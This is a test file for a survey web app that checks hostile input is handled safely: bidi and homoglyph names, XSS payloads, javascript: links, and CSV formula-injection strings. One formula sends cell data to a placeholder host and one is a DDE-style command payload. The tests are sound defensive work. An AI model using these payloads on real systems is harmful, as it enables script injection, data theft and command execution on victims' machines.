// Catalogue cases 5 and 24–27: hostile text shown back — names with invisible or bidi characters,
// markup in answers and definitions, formulas and awkward characters in exported CSV.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { render } from 'svelte/server';
import { expect } from 'vitest';
import svelteConfig from '../../svelte.config.js';
import { sql } from '../../src/lib/server/db';
import { actions as surveyAdminActions } from '../../src/routes/(staff)/admin/surveys/[id]/+page.server';
import { load as caseLoad } from '../../src/routes/(staff)/cases/[id]/+page.server';
import CasePage from '../../src/routes/(staff)/cases/[id]/+page.svelte';
import { load as commentsLoad } from '../../src/routes/(staff)/comments/+page.server';
import CommentsPage from '../../src/routes/(staff)/comments/+page.svelte';
import { load as dashboardLoad } from '../../src/routes/(staff)/dashboard/+page.server';
import { touchpointAt } from '../helpers/responses';
import { addSurvey } from '../helpers/test-app';
import { hostileSurvey, send, signedIn, submission, type HostileCase } from './context';
import { api, exportResponsesOf, form, surveyPage } from './doors';

const XSS = [
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'<a href="javascript:alert(1)">x</a>',
	'<svg onload=alert(1)>'
];

/** No payload's markup survives as markup: each `<` of it is escaped. */
function inert(html: string) {
	for (const payload of XSS) expect(html).not.toContain(payload);
	expect(html).not.toMatch(/<(script|img|svg)[^>]*(alert|onerror|onload)/i);
	expect(html).not.toMatch(/<a [^>]*href="javascript:/i);
}

/** The comment column of the exported rows, from the CSV as a spreadsheet would read it. */
function comments(text: string): string[] {
	const [header, ...rows] = parse(text, { bom: true, relax_column_count: false }) as string[][];
	const column = header!.findIndex((c) => c.endsWith('[comment]'));
	return rows.map((r) => r[column]!);
}

export const displayCases: HostileCase[] = [
	{
		case: 5,
		title:
			'zero-width, bidi-override and homoglyph names are kept as given, shown escaped and marked',
		run: async (h) => {
			const name = 'Nguyễn\u200b Vа\u202eN <b>A</b>'; // a Cyrillic а, a zero-width space, an RLO
			const posted = await form(
				h.qr,
				{
					q1: '1',
					comment: 'Chờ lâu',
					_contact_name: name,
					_contact_phone: '0912345678',
					_contact_consent: 'yes'
				},
				{ address: '198.51.100.70' }
			);
			expect(posted.status).toBe(303);
			const id = new URL(posted.location!, 'http://localhost').searchParams.get('r')!;
			const [row] = await h.app.db.query<{ name: string; caseId: number }>(sql`
				select c.name, f.id as "caseId" from response_contacts c
				join follow_up_cases f on f.response_id = c.response_id where c.response_id = ${id}::uuid`);
			expect(row!.name).toBe(name);
			const admin = await signedIn(h.app, 'admin');
			const params = { id: String(row!.caseId) };
			const loaded = await send(caseLoad, {
				path: `/cases/${params.id}`,
				params,
				cookies: admin.cookies
			});
			const { body } = render(CasePage, { props: { data: loaded.data, form: null } });
			expect(body).toContain('V\u0430'); // the Cyrillic а, shown as given
			expect(body).toContain('&lt;b>A&lt;/b>');
			expect(body).toContain('⟨U+202E⟩');
			expect(body).toContain('⟨U+200B⟩');
			expect(body).not.toContain('\u202e');
		}
	},
	{
		case: 24,
		title:
			'script, event-handler, javascript: and SVG payloads render inert for citizens and staff',
		run: async (h) => {
			const def = structuredClone(hostileSurvey);
			def.id = 'test-xss';
			def.title = { vi: XSS[0]!, en: XSS[1]! };
			def.intro = { vi: XSS[2]!, en: XSS[3]! };
			const visits = def.sections[0]!.questions.find((q) => q.id === 'visits') as {
				options: { label: { vi: string; en: string } }[];
			};
			visits.options[0]!.label = { vi: XSS[1]!, en: XSS[3]! };
			await addSurvey(h.app, def);
			const at = await touchpointAt(h.app, 'test-xss', 'AG.LX');
			inert(await surveyPage(at));
			expect((await form(at, { q1: '2', comment: XSS.join(' ') })).status).toBe(303);
			const analyst = await signedIn(h.app, 'analyst');
			const loaded = await send(commentsLoad, {
				path: '/comments?unit=AG.LX&survey=test-xss',
				cookies: analyst.cookies
			});
			expect(loaded.data.rows).toHaveLength(1);
			inert(render(CommentsPage, { props: { data: loaded.data } }).body);
			const dashboard = await send(dashboardLoad, {
				path: '/dashboard?unit=AG.LX&survey=test-xss',
				cookies: analyst.cookies
			});
			expect(dashboard.status).toBe(200);
			expect(JSON.stringify(dashboard.data)).toContain(XSS[0]); // data, escaped when rendered
			// And if markup ever slipped through, the policy runs no inline script.
			const csp = svelteConfig.kit!.csp!.directives!;
			expect(csp['script-src']).toEqual(['self']);
		}
	},
	{
		case: 25,
		title:
			'markup and Markdown in a survey description are shown as text; only admins touch surveys',
		run: async (h) => {
			const def = structuredClone(hostileSurvey) as typeof hostileSurvey & {
				sections: { description?: { vi: string; en: string } }[];
			};
			def.id = 'test-markdown';
			const description = '**Đậm** [bấm](javascript:alert(1)) <a href="javascript:alert(2)">a</a>';
			def.sections[0]!.description = { vi: description, en: description };
			await addSurvey(h.app, def);
			const html = await surveyPage(await touchpointAt(h.app, 'test-markdown', 'AG.LX'));
			expect(html).toContain(
				'**Đậm** [bấm](javascript:alert(1)) &lt;a href="javascript:alert(2)">a&lt;/a>'
			);
			expect(html).not.toMatch(/<a [^>]*href="javascript:/i);
			expect(html).not.toContain('<strong>Đậm');
			// Definitions are files deployed by the operator; the admin pages change targets only.
			const manager = await signedIn(h.app, 'manager', 'AG.LX');
			const tried = await send(surveyAdminActions.add!, {
				path: '/admin/surveys/test-markdown',
				params: { id: 'test-markdown' },
				body: new URLSearchParams({ unit: 'AG.LX', indicator: 'overall', target: '0.1' }),
				cookies: manager.cookies
			});
			expect(tried.status).toBe(404);
		}
	},
	{
		case: 26,
		title:
			'formula-like comments are exported with a leading apostrophe, and as plain XLSX strings',
		run: async (h) => {
			const formulas = [
				'=HYPERLINK("http://x/?d="&A1,"click")',
				"+cmd|' /C calc'!A0",
				'-2+3',
				'@SUM(A1)',
				'\t=1+1',
				'\r=1+2'
			];
			for (const comment of formulas) {
				expect((await api(submission(h.qr, { answers: { q1: 3, comment } }))).status).toBe(201);
			}
			const { text, xlsx } = await exportResponsesOf(h);
			const cells = comments(text);
			// Leading tabs and CRs are trimmed when stored; what is left is neutralised.
			for (const expected of [
				`'=HYPERLINK("http://x/?d="&A1,"click")`,
				"'+cmd|' /C calc'!A0",
				"'-2+3",
				"'@SUM(A1)",
				"'=1+1",
				"'=1+2"
			])
				expect(cells).toContain(expected);
			const book = new ExcelJS.Workbook();
			await book.xlsx.load(xlsx.buffer as ArrayBuffer);
			const sheet = book.worksheets[0]!;
			const found: unknown[] = [];
			sheet.eachRow((row) => row.eachCell((cell) => void found.push(cell.formula ?? cell.value)));
			expect(found).toContain('=HYPERLINK("http://x/?d="&A1,"click")');
			sheet.eachRow((row) => row.eachCell((cell) => expect(cell.formula).toBeUndefined()));
		}
	},
	{
		case: 27,
		title: 'commas, quotes, newlines and Vietnamese survive the CSV export, UTF-8 with a BOM',
		run: async (h) => {
			const tricky = 'Tốt, "rất" nhanh;\nlần sau\r\nsẽ quay lại — cảm ơn';
			expect((await api(submission(h.qr, { answers: { q1: 5, comment: tricky } }))).status).toBe(
				201
			);
			const csv = await exportResponsesOf(h);
			expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
			expect([...csv.bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
			expect(csv.text).toContain('"Tốt, ""rất"" nhanh;\nlần sau\r\nsẽ quay lại — cảm ơn"');
			expect(comments(csv.text)).toContain(tricky);
		}
	}
];
